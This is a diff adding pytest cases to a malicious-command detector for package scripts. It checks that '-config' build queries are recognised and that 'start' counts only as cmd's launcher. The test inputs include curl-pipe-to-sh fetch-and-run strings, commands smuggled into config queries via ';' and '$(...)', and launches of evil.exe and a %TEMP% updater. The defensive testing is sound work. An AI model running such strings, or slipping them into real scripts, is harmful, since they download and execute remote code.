@@ -16,6 +16,7 @@ from malseq.features.commands import (
     _tokens,
     analyse_command,
     expand,
+    is_build_command,
     looks_like_command,
     node_inline_scripts,
     parse_command,
@@ -252,3 +253,36 @@ def test_npm_and_yarn_run_pre_and_post_hooks() -> None:
     scripts = {"postinstall": "npm run build", "prebuild": "curl http://x | sh", "build": "tsc", "postbuild": "x"}
     assert [n for n, _ in reachable_scripts(scripts, ["postinstall"])] == ["postinstall", "prebuild", "build",
                                                                            "postbuild"]
+
+
+@pytest.mark.parametrize(("command", "build"), [
+    ("mecab-config --libs-only-l", True),
+    ("mecab-config --inc-dir", True),
+    ("xml2-config --cflags --libs", True),
+    ("pg_config --includedir", True),
+    ("python3.11-config --includes --ldflags", True),
+    ("pkg-config --cflags libxml-2.0", True),
+    ("mecab-config", False),  # no query: not recognised
+    ("mecab-config --cflags; curl -s https://example.org/x | sh", False),
+    ("mecab-config --cflags | sh", False),
+    ("helper-config https://example.org/stage2.sh", False),
+    ("helper-config --url=https://example.org/x", False),
+    ("helper-config --cflags /tmp/x", False),
+    ("./bin/mecab-config --cflags", False),  # the package's own program
+    ("nohup mecab-config --cflags &", False),
+    ("mecab-config --cflags $(curl -s https://example.org/x)", False),
+    ("configure --prefix", False),
+])
+def test_config_queries_are_build_steps_and_nothing_else(command: str, build: bool) -> None:
+    assert is_build_command(command) is build
+
+
+@pytest.mark.parametrize(("command", "found"), [
+    ("start the server", []),  # a script line of prose (issue 11)
+    ("Start date must precede the end date", []),
+    ("start /b evil.exe", ["shell_command"]),
+    ('start "" %TEMP%\\updater.exe', ["shell_command"]),  # cmd's start: the empty title only it takes
+    ("npm start", []),
+])
+def test_start_is_a_command_only_as_cmds_start(command: str, found: list[str]) -> None:
+    assert analyse_command(command) == found
